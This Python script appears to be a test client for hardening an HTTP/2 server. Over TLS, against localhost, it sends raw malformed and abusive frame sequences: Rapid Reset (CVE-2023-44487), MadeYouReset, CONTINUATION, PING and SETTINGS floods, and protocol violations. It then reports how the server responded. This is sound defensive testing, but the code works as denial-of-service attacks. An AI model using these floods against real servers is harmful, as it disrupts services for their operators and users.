#!/usr/bin/env python3
"""Hostile HTTP/2 clients for the hardening tests: raw frames over TLS (ALPN h2). Prints one
JSON line: the GOAWAY code the server sent (if any), the streams it reset and with which
code, the statuses it answered, whether it closed the connection, and how many bytes it
wrote in all.

  h2attack.py CASE HOST PORT CAFILE [MAX_STREAMS]

Every loop is bounded; the socket has a 10 s timeout.
"""
import json, socket, ssl, struct, sys, time

case, host, port, cafile = sys.argv[1], sys.argv[2], int(sys.argv[3]), sys.argv[4]
max_streams = int(sys.argv[5]) if len(sys.argv) > 5 else 128
context = ssl.create_default_context(cafile=cafile)
context.set_alpn_protocols(["h2"])
conn = context.wrap_socket(socket.create_connection(("127.0.0.1", port), timeout=10), server_hostname=host)

DATA, HEADERS, PRIORITY, RST, SETTINGS, PUSH, PING, GOAWAY, WINDOW, CONT = range(10)
END_STREAM, END_HEADERS = 0x1, 0x4


def frame(kind, flags, stream, payload=b""):
    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload


def literal(name, value):
    """A literal field without indexing; names and values under 127 bytes."""
    return b"\x00" + bytes([len(name)]) + name.encode() + bytes([len(value)]) + value.encode()


def block(method="GET", path="/hello", extra=()):
    fields = [(":method", method), (":scheme", "https"), (":path", path), (":authority", host)] + list(extra)
    return b"".join(literal(n, v) for n, v in fields)


def get(stream, path="/hello"):
    return frame(HEADERS, END_STREAM | END_HEADERS, stream, block(path=path))


preface = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(SETTINGS, 0, 0)
result = {"case": case, "resets": {}, "statuses": {}, "goaway": None, "closed": False, "received": 0, "send_failed": False}
buffer = b""


def send(data):
    try:
        conn.sendall(data)
    except OSError:
        result["send_failed"] = True


def read_frames(until):
    """Reads frames until `until()` holds, the server closes, or 10 s pass."""
    global buffer
    deadline = time.monotonic() + 10
    while not until() and time.monotonic() < deadline:
        while len(buffer) >= 9:
            length = int.from_bytes(buffer[:3], "big")
            if len(buffer) < 9 + length:
                break
            kind, flags = buffer[3], buffer[4]
            stream = int.from_bytes(buffer[5:9], "big") & 0x7FFFFFFF
            payload = buffer[9:9 + length]
            buffer = buffer[9 + length:]
            if kind == GOAWAY:
                result["goaway"] = int.from_bytes(payload[4:8], "big")
            elif kind == RST:
                result["resets"][str(stream)] = int.from_bytes(payload[:4], "big")
            elif kind == HEADERS and payload[:1] == b"\x88":
                result["statuses"][str(stream)] = 200
            elif kind == HEADERS:
                result["statuses"][str(stream)] = "other"
            elif kind == SETTINGS and not flags & 1:
                send(frame(SETTINGS, 1, 0))
            if until():
                return
        try:
            chunk = conn.recv(65536)
        except socket.timeout:
            return
        except OSError:
            result["closed"] = True
            return
        if not chunk:
            result["closed"] = True
            return
        result["received"] += len(chunk)
        buffer += chunk


def goaway_or_closed():
    return result["goaway"] is not None or result["closed"]


send(preface)
if case == "control":
    # A well-formed request: proves the probe itself is answered.
    send(get(1))
    read_frames(lambda: "1" in result["statuses"])
elif case == "rapid-reset":
    # CVE-2023-44487: open a stream, reset it at once, again and again.
    for stream in range(1, 2 * 1000, 2):
        send(get(stream, "/sleep/200") + frame(RST, 0, stream, struct.pack(">I", 8)))
        if result["send_failed"]:
            break
    read_frames(goaway_or_closed)
elif case == "provoked-reset":
    # "MadeYouReset" (CVE-2025-8671): make the server reset streams itself, with a zero
    # WINDOW_UPDATE on each (a stream error).
    for stream in range(1, 2 * 1000, 2):
        send(get(stream, "/sleep/200") + frame(WINDOW, 0, stream, struct.pack(">I", 0)))
        if result["send_failed"]:
            break
    read_frames(goaway_or_closed)
elif case == "continuation-flood":
    # CONTINUATION frames without end, each full of header bytes the server must hold.
    send(frame(HEADERS, 0, 1, block()))
    for _ in range(1000):
        send(frame(CONT, 0, 1, literal("x-pad", "a" * 100) * 150))
        if result["send_failed"]:
            break
    read_frames(goaway_or_closed)
elif case == "empty-continuation":
    send(frame(HEADERS, 0, 1, block()))
    for _ in range(100_000):
        send(frame(CONT, 0, 1))
        if result["send_failed"]:
            break
    read_frames(goaway_or_closed)
elif case in ("ping-flood", "settings-flood"):
    # Answers pile up on a client that does not read.
    one = frame(PING, 0, 0, b"12345678") if case == "ping-flood" else frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 65535))
    for _ in range(200):
        send(one * 5000)
        if result["send_failed"]:
            break
    read_frames(goaway_or_closed)
elif case == "closed-stream-data":
    send(get(1))
    read_frames(lambda: "1" in result["statuses"])
    for _ in range(5000):
        send(frame(DATA, 0, 1, b"x"))
        if result["send_failed"]:
            break
    read_frames(goaway_or_closed)
elif case == "window-overflow":
    send(frame(WINDOW, 0, 0, struct.pack(">I", 0x7FFFFFFF)))
    read_frames(goaway_or_closed)
elif case == "data-on-idle-stream":
    send(frame(DATA, 0, 5, b"x"))
    read_frames(goaway_or_closed)
elif case == "even-stream":
    send(frame(HEADERS, END_STREAM | END_HEADERS, 2, block()))
    read_frames(goaway_or_closed)
elif case == "bad-hpack":
    # Index 0 is not a table entry (RFC 7541 §6.1).
    send(frame(HEADERS, END_STREAM | END_HEADERS, 1, b"\x80"))
    read_frames(goaway_or_closed)
elif case == "oversized-frame":
    send(frame(PING, 0, 0, b"x" * 20000))
    read_frames(goaway_or_closed)
elif case == "interleaved-headers":
    send(frame(HEADERS, 0, 1, block()) + frame(HEADERS, END_STREAM | END_HEADERS, 3, block()))
    read_frames(goaway_or_closed)
elif case == "push-promise":
    send(frame(PUSH, END_HEADERS, 1, struct.pack(">I", 2) + block()))
    read_frames(goaway_or_closed)
elif case == "flow-control-violation":
    # A body past the stream's 65,535-byte window, sent without waiting for it to open.
    send(frame(HEADERS, END_HEADERS, 1, block("POST", "/echo")))
    chunk = b"x" * 16384
    for _ in range(5):
        send(frame(DATA, 0, 1, chunk))
    read_frames(lambda: "1" in result["resets"] or goaway_or_closed())
elif case == "too-many-streams":
    # One stream more than the server allows at once: that one is refused, the rest answered.
    streams = range(1, 2 * (max_streams + 1), 2)
    send(b"".join(get(stream, "/sleep/300") for stream in streams))
    read_frames(lambda: len(result["statuses"]) + len(result["resets"]) >= max_streams + 1 or goaway_or_closed())
else:
    sys.exit(f"unknown case {case}")
if result["goaway"] is not None and not result["closed"]:
    # After GOAWAY, the close.
    read_frames(lambda: result["closed"])
print(json.dumps(result))
